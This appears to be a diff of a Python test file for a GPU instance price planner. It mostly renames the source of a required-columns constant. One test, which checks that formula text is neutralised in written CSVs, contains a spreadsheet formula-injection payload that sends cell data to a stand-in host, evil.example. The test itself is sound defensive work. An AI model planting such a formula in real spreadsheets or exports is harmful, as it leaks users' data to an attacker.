@@ -23,11 +23,12 @@ from sqlalchemy import delete, func, select
 from db.engine import ensure_schema, make_engine
 from db.schema import availability, instances, prices, scrape_runs
 from planner.errors import PlannerError
-from planner.ingest.importer import REQUIRED_COLUMNS, ImportFileError, import_csv
+from planner.ingest.importer import ImportFileError, import_csv
 from tests.conftest import price_row, write_csv
+from vocab import IMPORT_REQUIRED_COLUMNS
 
 FX = {"USD": 7.1}
-HEADER = list(REQUIRED_COLUMNS)
+HEADER = list(IMPORT_REQUIRED_COLUMNS)
 VALID_ROWS = [
     ["tencent", "ap-beijing", "GT4.4XLARGE96", "A100-40GB", "1", "on_demand", "28.64", "CNY", "2026-11-01"],
     ["aliyun", "cn-shanghai", "ecs.gn7i-c8g1.2xlarge", "A10", "1", "monthly", "5000", "CNY", "2026-11-01"],
@@ -326,7 +327,7 @@ def test_formula_text_is_neutralised_in_every_csv_written(run_cli, tmp_path):
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     path = tmp_path / "ok.csv"
     with path.open("w", encoding="utf-8", newline="") as fh:
-        writer = csv.DictWriter(fh, fieldnames=[*REQUIRED_COLUMNS, "source"])
+        writer = csv.DictWriter(fh, fieldnames=[*IMPORT_REQUIRED_COLUMNS, "source"])
         writer.writeheader()
         writer.writerow(price_row(source=evil))
     assert run_cli("import", str(path)).exit_code == 0
